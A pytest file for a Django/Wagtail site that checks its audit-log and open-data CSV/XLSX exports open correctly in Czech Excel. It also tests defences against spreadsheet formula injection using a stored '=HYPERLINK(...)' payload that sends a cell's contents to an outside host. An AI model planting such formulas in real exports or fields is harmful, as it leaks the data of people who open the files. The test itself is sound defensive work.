"""CSV that Czech Excel opens correctly: UTF-8 with a byte-order mark, and `;` where the audience
is people with Excel (the audit) or on request (open data, whose default `,` suits programs)."""

import csv
import io

from django.test import Client
from django.utils import timezone

from wagtail.models import PageLogEntry

import openpyxl
import pytest

from kpss_pages import factories
from kpss_pages.models import TargetGroup
from tests.route import publish
from workflows.roles import AUDITOR

pytestmark = pytest.mark.django_db

AUDIT = "/admin/audit/"
OPEN_DATA = "/otevrena-data/sluzby.csv"
BOM = b"\xef\xbb\xbf"
CZECH = "Příliš žluťoučký kůň úpěl ďábelské ódy; ČŘŠŽÝÁÍÉŮÚ"
FORMULA = '=HYPERLINK("https://example.cz/?d="&A1;"Klikněte")'


@pytest.fixture
def auditor(setup_data, make_user):
    client = Client()
    client.force_login(make_user("auditorka", AUDITOR))
    return client


def log_entry(page, user, label):
    PageLogEntry.objects.create(
        page=page,
        content_type_id=page.content_type_id,
        label=label,
        action="wagtail.edit",
        user=user,
        timestamp=timezone.now(),
    )


def content(response):
    return b"".join(response.streaming_content) if response.streaming else response.content


def excel_rows(data, delimiter):
    """Read as Czech Excel does: BOM means UTF-8, then split on the list separator."""
    assert data.startswith(BOM), "without a BOM Excel reads UTF-8 as windows-1250"
    return list(
        csv.reader(io.StringIO(data[len(BOM) :].decode("utf-8"), newline=""), delimiter=delimiter)
    )


# --- Audit ------------------------------------------------------------------------------------


def test_the_audit_csv_is_utf8_with_a_bom_and_semicolons_for_czech_excel(
    home, auditor, django_user_model
):
    user = django_user_model.objects.create_user(
        "zofie.rehakova", first_name="Žofie", last_name="Řeháková"
    )
    log_entry(home, user, CZECH)

    response = auditor.get(AUDIT, {"export": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    data = content(response)
    header = data[len(BOM) :].split(b"\r\n")[0].decode()
    assert header.startswith("Čas;Kdo;Uživatelské jméno;Akce;"), "the default is `;`"

    rows = excel_rows(data, ";")
    assert {len(row) for row in rows} == {len(rows[0])}, "every row splits into the same columns"
    row = next(r for r in rows if r[2] == "zofie.rehakova")
    assert row[1] == "Žofie Řeháková"
    assert row[rows[0].index("Objekt")] == CZECH, "Czech text and a `;` inside a cell round-trip"


def test_the_audit_csv_uses_commas_on_request(home, auditor, django_user_model):
    log_entry(home, django_user_model.objects.create_user("petr"), CZECH)

    data = content(auditor.get(AUDIT, {"export": "csv", "oddelovac": "carka"}))
    rows = excel_rows(data, ",")
    assert rows[0][:3] == ["Čas", "Kdo", "Uživatelské jméno"]
    assert CZECH in {cell for row in rows for cell in row}
    data = content(auditor.get(AUDIT, {"export": "csv", "oddelovac": "strednik"}))
    assert excel_rows(data, ";")[0][:3] == ["Čas", "Kdo", "Uživatelské jméno"]


def test_an_unknown_separator_is_refused_in_czech_and_the_audit_exports_nothing(home, auditor):
    response = auditor.get(AUDIT, {"export": "csv", "oddelovac": "tabulator"})
    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/html")
    html = response.content.decode()
    assert "Neznámý oddělovač „tabulator“" in html
    assert "oddelovac=strednik" in html and "oddelovac=carka" in html


def test_audit_exports_never_turn_stored_text_into_a_formula(home, auditor, django_user_model):
    log_entry(home, django_user_model.objects.create_user("petr"), FORMULA)

    response = auditor.get(AUDIT, {"export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(content(response))).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value == FORMULA]
    assert cells, "the text itself, unchanged"
    assert {cell.data_type for cell in cells} == {"s"}, "stored as text, not as a formula"
    assert not [c for row in sheet.iter_rows() for c in row if c.data_type == "f"]

    rows = excel_rows(content(auditor.get(AUDIT, {"export": "csv"})), ";")
    labels = [row[rows[0].index("Objekt")] for row in rows[1:]]
    assert "'" + FORMULA in labels, "a leading apostrophe: Excel shows it as text"
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "@"))]


# --- Open data --------------------------------------------------------------------------------


@pytest.fixture
def services(home):
    catalogue = factories.ServiceIndexPageFactory(parent=home)
    service = factories.ServicePageFactory(parent=catalogue, title="Pečovatelská služba Kelč")
    service.target_groups = list(
        TargetGroup.objects.filter(locale=home.locale, slug__in=["seniori", "osoby-v-krizi"])
    )
    publish(service)
    formula = factories.ServicePageFactory(parent=catalogue, title=FORMULA, slug="vzorec")
    publish(formula)
    return service


def test_open_data_csv_defaults_to_commas_with_a_bom(client, services):
    response = client.get(OPEN_DATA)
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    data = response.content
    assert data[len(BOM) :].startswith(b"id,nazev,url,"), "programs expect RFC 4180 commas"
    rows = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
    assert "Pečovatelská služba Kelč" in [row["nazev"] for row in rows]
    assert "'" + FORMULA in [row["nazev"] for row in rows]


def test_open_data_csv_for_czech_excel_splits_on_semicolons_and_keeps_lists_in_one_cell(
    client, services
):
    data = client.get(OPEN_DATA, {"oddelovac": "strednik"}).content
    assert data[len(BOM) :].startswith(b"id;nazev;url;")
    rows = excel_rows(data, ";")
    header = rows[0]
    assert {len(row) for row in rows} == {len(header)}
    by_name = {row[header.index("nazev")]: dict(zip(header, row, strict=True)) for row in rows[1:]}
    service = by_name["Pečovatelská služba Kelč"]
    groups = service["cilove_skupiny"].split("; ")
    assert sorted(groups) == ["osoby v krizi", "senioři"], "a list stays one cell"
    assert "'" + FORMULA in by_name, "formula protection stays"
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "@"))]

    commas = excel_rows(client.get(OPEN_DATA, {"oddelovac": "carka"}).content, ",")
    assert commas == rows


@pytest.mark.parametrize(
    "url, message",
    [
        (OPEN_DATA, "Neznámý oddělovač „tab“"),
        ("/en/otevrena-data/sluzby.csv", "Unknown separator “tab”"),
    ],
)
def test_open_data_refuses_an_unknown_separator_with_a_clear_message(
    client, services, url, message
):
    response = client.get(url, {"oddelovac": "tab"})
    assert response.status_code == 400
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    text = response.content.decode()
    assert message in text
    assert "oddelovac=strednik" in text and "oddelovac=carka" in text
